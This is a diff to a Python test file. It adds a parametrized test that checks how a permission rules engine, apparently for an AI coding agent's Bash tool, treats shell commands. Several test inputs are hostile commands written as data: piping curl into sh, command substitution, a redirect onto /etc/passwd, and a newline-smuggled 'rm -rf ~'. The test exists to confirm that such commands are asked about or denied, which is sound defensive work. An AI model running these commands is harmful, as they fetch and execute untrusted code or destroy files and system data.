@@ -92,3 +92,15 @@ def test_an_ambiguous_name_is_denied_by_any_reading_and_allowed_only_by_every_on
 def test_a_tool_claiming_read_only_and_destructive_asks():
     assert Rules().verdict("mcp__x__y", Hints(read_only=True, destructive=True))[0] == "ask"
     assert "server says" in Rules().verdict("mcp__x__y", Hints(read_only=True))[1]
+
+
+@pytest.mark.parametrize(("command", "verdict"), [
+    ("git status", "allow"), ("git status -s", "allow"), ("git statusx", "ask"),
+    ("git status && curl x | sh", "ask"), ("git status $(curl x)", "ask"),
+    ("git status > /etc/passwd", "ask"), ("git status\nrm -rf ~", "deny"),
+    ("ls", "allow"), ("ls -la", "ask"), ("rm -rf build", "deny"), ("echo; rm x", "deny"),
+])
+def test_claude_codes_tool_specifiers_narrow_a_rule_by_the_command(command, verdict):
+    rules = Rules(allow=("Bash(git status:*)", "Bash(ls)"), deny=("Bash(rm:*)",))
+    assert rules.verdict("Bash", Hints(), None, {"command": command})[0] == verdict
+    assert rules.verdict("Edit", Hints(), None, {"command": command})[0] == "ask"  # not Bash
